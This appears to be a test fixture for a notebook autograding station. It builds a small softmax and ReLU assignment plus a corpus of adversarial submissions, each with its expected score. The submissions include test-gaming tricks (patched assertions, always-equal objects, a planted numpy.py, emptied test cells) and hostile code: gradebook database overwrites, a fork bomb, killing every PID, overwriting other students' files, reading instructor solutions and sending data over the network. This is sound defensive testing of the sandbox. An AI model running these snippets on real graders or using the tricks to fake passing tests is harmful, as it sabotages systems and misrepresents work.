@@ -1,0 +1,371 @@
+"""A small assignment for the grading station's tests, and a corpus of bad submissions.
+
+The assignment (00-station) has two exercises worth 3 automatic points each (a visible test
+of 1 point and a hidden test of 2) and a written answer graded by hand. It runs in a couple
+of seconds, so that the corpus can cover many ways to break or game a grader. Each case says
+what it does, the automatic score it must get, and a phrase its recorded reasons must hold
+(or None when it must be graded without any reason).
+"""
+
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Callable
+
+import nbformat
+
+ASSIGNMENT = "00-station"
+NOTEBOOK = f"{ASSIGNMENT}.ipynb"
+FULL_SCORE = 6.0
+EXERCISE_1 = 3.0
+
+
+def _meta(grade_id, *, solution=False, grade=False, locked=False, points=None):
+    meta = {"grade": grade, "grade_id": grade_id, "locked": locked, "schema_version": 3,
+            "solution": solution, "task": False}
+    if points is not None:
+        meta["points"] = points
+    return {"nbgrader": meta}
+
+
+SETUP = "import numpy as np\nfrom dlcourse import check"
+SOFTMAX = '''def softmax(z):
+    """Row-wise softmax of a (N, C) array."""
+    ### BEGIN SOLUTION
+    shifted = z - z.max(axis=1, keepdims=True)
+    e = np.exp(shifted)
+    return e / e.sum(axis=1, keepdims=True)
+    ### END SOLUTION'''
+RELU_BACKWARD = '''def relu_backward(dout, x):
+    """Gradient of relu(x) given the upstream gradient dout."""
+    ### BEGIN SOLUTION
+    return dout * (x > 0)
+    ### END SOLUTION'''
+TESTS = {
+    "ex1_softmax-test-visible": (1, '''check.assert_close(softmax(np.zeros((1, 2))), [[0.5, 0.5]], name="softmax of zeros")
+print("Exercise 1: visible checks passed.")'''),
+    "ex1_softmax-test-hidden": (2, '''_ = softmax(np.zeros((1, 3)))
+### BEGIN HIDDEN TESTS
+import torch
+_r = np.random.default_rng(7)
+for _trial in range(3):
+    _z = _r.normal(size=(4, 5)) * 30
+    np.testing.assert_allclose(softmax(_z), torch.softmax(torch.tensor(_z), dim=1).numpy(), rtol=1e-9)
+### END HIDDEN TESTS'''),
+    "ex2_relu-test-visible": (1, '''check.assert_close(relu_backward(np.ones(3), np.array([-1.0, 0.0, 2.0])), [0.0, 0.0, 1.0],
+                   name="relu backward")
+print("Exercise 2: visible checks passed.")'''),
+    "ex2_relu-test-hidden": (2, '''_ = relu_backward(np.ones(2), np.ones(2))
+### BEGIN HIDDEN TESTS
+_r = np.random.default_rng(8)
+_x, _d = _r.normal(size=(6, 3)), _r.normal(size=(6, 3))
+check.assert_close(relu_backward(_d, _x), _d * (_x > 0), name="hidden relu backward")
+### END HIDDEN TESTS'''),
+}
+
+
+def source_notebook():
+    cells = [
+        nbformat.v4.new_markdown_cell("# 00: a notebook for testing the grading station", metadata=_meta("intro", locked=True)),
+        nbformat.v4.new_code_cell(SETUP, metadata=_meta("setup", locked=True)),
+        nbformat.v4.new_code_cell(SOFTMAX, metadata=_meta("ex1_softmax", solution=True)),
+    ]
+    for gid in ("ex1_softmax-test-visible", "ex1_softmax-test-hidden"):
+        cells.append(nbformat.v4.new_code_cell(TESTS[gid][1], metadata=_meta(gid, grade=True, locked=True,
+                                                                             points=TESTS[gid][0])))
+    cells.append(nbformat.v4.new_code_cell(RELU_BACKWARD, metadata=_meta("ex2_relu", solution=True)))
+    for gid in ("ex2_relu-test-visible", "ex2_relu-test-hidden"):
+        cells.append(nbformat.v4.new_code_cell(TESTS[gid][1], metadata=_meta(gid, grade=True, locked=True,
+                                                                             points=TESTS[gid][0])))
+    cells.append(nbformat.v4.new_markdown_cell("Why subtract the maximum in softmax?\n\n### BEGIN SOLUTION\n"
+                                               "So that exp never overflows.\n### END SOLUTION",
+                                               metadata=_meta("written", solution=True, grade=True, points=1)))
+    notebook = nbformat.v4.new_notebook(cells=cells)
+    notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    return notebook
+
+
+def install_assignment(course: Path) -> None:
+    folder = course / "solutions" / ASSIGNMENT
+    folder.mkdir(parents=True, exist_ok=True)
+    nbformat.write(source_notebook(), folder / NOTEBOOK)
+
+
+# ------------------------------------------------------------------ submissions
+
+def solved(course: Path):
+    """The solution as a student would hand it in (markers and hidden tests as released)."""
+    return nbformat.read(course / "solutions" / ASSIGNMENT / NOTEBOOK, as_version=4)
+
+
+def released(course: Path):
+    return nbformat.read(course / "course" / ASSIGNMENT / NOTEBOOK, as_version=4)
+
+
+def _answer(notebook, grade_id, source):
+    for cell in notebook.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
+            cell.source = source
+            return notebook
+    raise KeyError(grade_id)
+
+
+def _after(notebook, grade_id, source):
+    """Insert a student's cell after the cell `grade_id`."""
+    index = next(i for i, c in enumerate(notebook.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
+    return notebook
+
+
+WRONG_SOFTMAX = "def softmax(z):\n    return np.exp(z)  # not normalised\n"
+WRONG_RELU = "def relu_backward(dout, x):\n    return dout\n"
+
+
+def wrong(course):
+    return _answer(_answer(solved(course), "ex1_softmax", WRONG_SOFTMAX), "ex2_relu", WRONG_RELU)
+
+
+@dataclass
+class Case:
+    student: str
+    what: str
+    build: Callable                 # (course, context) -> notebook, or (notebook, {extra file: bytes})
+    score: float
+    reason: str | None = None
+
+
+def _transformer(course, ctx):
+    nb = wrong(course)
+    return _answer(nb, "ex1_softmax", WRONG_SOFTMAX + "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n")
+
+
+def _patched_checks(course, ctx):
+    patch = ("import numpy.testing, dlcourse.check\n"
+             "numpy.testing.assert_allclose = lambda *a, **k: None\n"
+             "dlcourse.check.assert_close = check.assert_close = lambda *a, **k: None\n"
+             "import builtins; builtins.AssertionError = type('Nothing', (Exception,), {})\n")
+    return _answer(wrong(course), "ex1_softmax", WRONG_SOFTMAX + patch)
+
+
+def _always_equal(course, ctx):
+    cheat = ("class Anything(np.ndarray):\n"
+             "    def __eq__(self, other): return np.ones(np.shape(other), bool)\n"
+             "    def __array_finalize__(self, obj): pass\n"
+             "class Yes:\n"
+             "    def __eq__(self, other): return True\n"
+             "    __ne__ = lambda self, other: False\n"
+             "    def __getattr__(self, name): return self\n"
+             "    def __call__(self, *a, **k): return self\n"
+             "def softmax(z):\n    return Yes()\n")
+    return _answer(solved(course), "ex1_softmax", cheat)
+
+
+def _planted_numpy(course, ctx):
+    fake = (b"# a numpy that agrees with everything\n"
+            b"def __getattr__(name):\n    return lambda *args, **kwargs: True\n")
+    return _answer(wrong(course), "ex1_softmax", WRONG_SOFTMAX), {"numpy.py": fake}
+
+
+def _gradebook(course, ctx):
+    attack = f'''import sqlite3, glob, os
+for path in [{str(ctx["gradebook"])!r}, "../../gradebook.db", "../../../autograde/gradebook.db"] + glob.glob("/*/*/autograde/gradebook.db") + glob.glob("/tmp/*/*/autograde/gradebook.db"):
+    try:
+        db = sqlite3.connect(path)
+        db.execute("UPDATE grade SET auto_score = 99")
+        db.commit()
+        print("wrote", path)
+    except Exception as error:
+        print("failed", path, error)
+'''
+    return _after(wrong(course), "ex1_softmax", attack)
+
+
+def _kill_parent(course, ctx):
+    attack = ("import os, signal\n"
+              "for pid in (os.getppid(), 1, 0):\n"
+              "    try:\n        os.kill(pid, signal.SIGKILL)\n    except Exception as error:\n        print(error)\n"
+              "for pid in range(2, 40000):\n"
+              "    try:\n        os.kill(pid, signal.SIGKILL)\n    except Exception:\n        pass\n")
+    return _after(solved(course), "ex1_softmax-test-hidden", attack)
+
+
+def _edits_other(course, ctx):
+    attack = f'''import glob
+for path in [{str(ctx["good_notebook"])!r}] + glob.glob("/*/*/autograde/submitted/*/*/*.ipynb") + glob.glob("../*/*.ipynb"):
+    try:
+        open(path, "w").write("{{}}")
+        print("overwrote", path)
+    except Exception as error:
+        print("failed", path, error)
+'''
+    return _after(solved(course), "ex1_softmax", attack)
+
+
+def _reads_others(course, ctx):
+    cheat = f'''import json, glob
+def softmax(z):
+    for path in [{str(ctx["solution"])!r}] + glob.glob("/*/*/solutions/*/*.ipynb") + glob.glob("/tmp/*/*/solutions/*/*.ipynb"):
+        try:
+            cells = json.load(open(path))["cells"]
+        except Exception:
+            continue
+        namespace = {{"np": np}}
+        exec("".join(cells[2]["source"]), namespace)
+        return namespace["softmax"](z)
+    return np.exp(z)
+'''
+    return _answer(solved(course), "ex1_softmax", cheat)
+
+
+def _exits(course, ctx):
+    return _after(solved(course), "ex1_softmax-test-hidden", "import os\nos._exit(3)\n")
+
+
+def _ignores_sigint(course, ctx):
+    return _after(solved(course), "ex1_softmax-test-hidden",
+                  "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n")
+
+
+def _slow_cell(course, ctx):
+    return _after(solved(course), "ex1_softmax-test-hidden", "import time\nwhile True:\n    time.sleep(0.01)\n")
+
+
+def _slow_function(course, ctx):
+    slow = SOFTMAX.replace("    ### BEGIN SOLUTION", "    ### BEGIN SOLUTION\n    if z.shape[1] == 5:\n        while True:\n            pass")
+    return _answer(solved(course), "ex1_softmax", slow)
+
+
+def _fork_bomb(course, ctx):
+    bomb = ("import os, time\n"
+            "for _ in range(100000):\n"
+            "    try:\n"
+            "        if os.fork() == 0:\n"
+            "            while True:\n"
+            "                try:\n                    os.fork()\n"
+            "                except OSError:\n                    time.sleep(0.2)\n"
+            "    except OSError as error:\n"
+            "        print('fork refused:', error)\n"
+            "        break\n")
+    return _after(solved(course), "ex1_softmax-test-hidden", bomb)
+
+
+def _huge_output(course, ctx):
+    return _after(solved(course), "ex1_softmax-test-hidden", "while True:\n    print('x' * 10000)\n")
+
+
+def _huge_file(course, ctx):
+    attack = ("block = b'0' * 2**20\n"
+              "for path in ('big.bin', '/tmp/big.bin'):\n"
+              "    try:\n"
+              "        with open(path, 'wb') as handle:\n"
+              "            for _ in range(2048):\n                handle.write(block)\n"
+              "    except OSError as error:\n        print(path, error)\n")
+    return _after(solved(course), "ex1_softmax", attack)
+
+
+def _background(course, ctx):
+    attack = ("import subprocess, os, time\n"
+              "subprocess.Popen(['sleep', '600'])\n"
+              "if os.fork() == 0:\n"
+              "    os.setsid()\n"
+              "    while True:\n        time.sleep(1)\n")
+    return _after(solved(course), "ex1_softmax", attack)
+
+
+def _network(course, ctx):
+    attack = f'''import socket, urllib.request
+for address in [("127.0.0.1", {ctx["port"]}), ("10.0.2.2", 80), ("pypi.org", 443)]:
+    try:
+        connection = socket.create_connection(address, timeout=2)
+        connection.sendall(b"leaked answers")
+        print("connected", address)
+    except Exception as error:
+        print("no", address, error)
+'''
+    return _after(solved(course), "ex1_softmax", attack)
+
+
+def _memory(course, ctx):
+    attack = "try:\n    hog = bytearray(16 * 2**30)\nexcept MemoryError as error:\n    print('refused', error)\n"
+    return _after(solved(course), "ex1_softmax", attack)
+
+
+def _stderr(course, ctx):
+    noisy = SOFTMAX.replace("    ### BEGIN SOLUTION", "    import sys, warnings\n    print('computing', file=sys.stderr)\n"
+                                                      "    warnings.warn('a harmless warning')\n    ### BEGIN SOLUTION")
+    return _after(_answer(solved(course), "ex1_softmax", noisy), "ex1_softmax",
+                  "import sys\nprint('a note on stderr', file=sys.stderr)\n")
+
+
+def _test_cells(course, change):
+    def build(course_, ctx):
+        nb = wrong(course_) if change != "deleted" else solved(course_)
+        kept = []
+        for cell in nb.cells:
+            meta = cell.metadata.get("nbgrader", {})
+            if meta.get("grade") and not meta.get("solution"):
+                if change == "deleted":
+                    continue
+                cell.source = "pass"
+                if change == "renamed":
+                    meta["grade_id"] += "-mine"
+                if change == "retyped":
+                    cell.metadata = {}
+            kept.append(cell)
+        nb.cells = kept
+        return nb
+    return build
+
+
+def _unreadable(course, ctx):
+    text = nbformat.writes(solved(course))
+    return None, {NOTEBOOK: text[: len(text) // 2].encode()}
+
+
+def _reset(course, ctx):
+    return _after(solved(course), "ex2_relu", "%reset -f\n")
+
+
+CASES = [
+    Case("good", "the solution", lambda c, x: solved(c), FULL_SCORE),
+    Case("blank", "the released notebook, untouched", lambda c, x: released(c), 0.0),
+    Case("wrong", "wrong answers", lambda c, x: wrong(c), 0.0),
+    Case("stderr", "a correct answer that writes to stderr and warns", _stderr, FULL_SCORE),
+    Case("transformer", "wrong answers + an input transformer turning later cells into `pass`", _transformer, 0.0),
+    Case("patched-checks", "wrong answers + np.testing, check.assert_close and AssertionError patched", _patched_checks, 0.0),
+    Case("always-equal", "softmax returns an object equal to everything", _always_equal, FULL_SCORE - EXERCISE_1),
+    Case("planted-numpy", "wrong answers + a numpy.py beside the notebook", _planted_numpy, 0.0),
+    Case("gradebook", "wrong answers + sqlite writes to the gradebook", _gradebook, 0.0),
+    Case("kill-parent", "kills its parent, pid 1 and every pid it can name", _kill_parent, FULL_SCORE),
+    Case("edits-other", "overwrites another student's submission", _edits_other, FULL_SCORE),
+    Case("reads-others", "softmax copies the instructor's solution from solutions/", _reads_others, FULL_SCORE - EXERCISE_1),
+    Case("exits", "os._exit(3) after exercise 1", _exits, EXERCISE_1, "exited with status 3"),
+    Case("ignores-sigint", "a loop ignoring SIGINT after exercise 1", _ignores_sigint, EXERCISE_1, "did not stop when interrupted"),
+    Case("slow-cell", "an endless loop that an interrupt stops", _slow_cell, FULL_SCORE, "time limit"),
+    Case("slow-function", "softmax never returns on the hidden test's input", _slow_function, FULL_SCORE - 2, "time limit"),
+    # the bomb's processes use up its own process limit: its later cells cannot start a thread
+    Case("fork-bomb", "a fork bomb after exercise 1", _fork_bomb, EXERCISE_1),
+    Case("huge-output", "prints without end after exercise 1", _huge_output, FULL_SCORE, "output limit"),
+    Case("huge-file", "writes 2 GB to its folder and to /tmp", _huge_file, FULL_SCORE),
+    Case("background", "leaves a subprocess and a daemon running", _background, FULL_SCORE),
+    Case("network", "connects to a server on the grader's loopback and to the internet", _network, FULL_SCORE),
+    Case("memory", "allocates 16 GB", _memory, FULL_SCORE),
+    Case("deleted-tests", "correct answers, every test cell deleted", _test_cells(None, "deleted"), FULL_SCORE),
+    Case("edited-tests", "wrong answers, test cells emptied to `pass`", _test_cells(None, "edited"), 0.0),
+    Case("renamed-tests", "wrong answers, test cells emptied and their ids renamed", _test_cells(None, "renamed"), 0.0),
+    Case("retyped-tests", "wrong answers, test cells re-typed without their metadata", _test_cells(None, "retyped"), 0.0),
+    Case("reset", "%reset -f before exercise 2's tests: they find no answer", _reset, EXERCISE_1),
+    Case("unreadable", "half a notebook file", _unreadable, 0.0, "not a readable notebook"),
+]
+
+
+def write_submissions(course: Path, context: dict) -> None:
+    submitted = course / "autograde" / "submitted"
+    for case in CASES:
+        folder = submitted / case.student / ASSIGNMENT
+        folder.mkdir(parents=True, exist_ok=True)
+        built = case.build(course, context)
+        notebook, extra = built if isinstance(built, tuple) else (built, {})
+        if notebook is not None:
+            nbformat.write(notebook, folder / NOTEBOOK)
+        for name, data in extra.items():
+            (folder / name).write_bytes(data)
